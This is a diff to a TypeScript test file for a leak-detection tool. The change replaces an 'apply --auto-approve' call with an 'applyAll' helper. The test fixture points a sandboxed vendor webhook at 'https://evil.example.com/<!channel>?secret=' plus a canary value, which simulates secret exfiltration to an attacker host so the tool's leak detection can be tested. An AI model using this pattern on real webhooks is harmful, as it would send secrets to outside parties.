@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
 import { findLeaks } from '../canary/leaks.ts'
 import { noticePath, startNoticeReceiver } from '../notify/notice-receiver.ts'
-import { canary, fillVault, makeProject, type Project, type ProjectOptions } from './make-project.ts'
+import { applyAll, canary, fillVault, makeProject, type Project, type ProjectOptions } from './make-project.ts'
 import { type Ran, runProgram } from './run-program.ts'
 
 const canaries = [
@@ -13,7 +13,7 @@ const canaries = [
 async function makeDrifted(options: ProjectOptions = {}): Promise<Project> {
   const project = await makeProject(options)
   await fillVault(project)
-  await project.run('apply', '--auto-approve')
+  await applyAll(project)
   const { sinch } = project.sandbox.vendors
   const url = `https://evil.example.com/<!channel>?secret=${canary}`
   sinch.webhooks.edit(sinch.webhooks.all()[0]?.id ?? '', { target: url })
@@ -68,7 +68,7 @@ test('with a history, only what is new and what is resolved is told', async () =
   await project.run(...args)
   await project.run(...args)
   const known = receiver.taken.length
-  await project.run('apply', '--auto-approve')
+  await applyAll(project)
   await project.run(...args)
 
   expect(known).toBe(1)
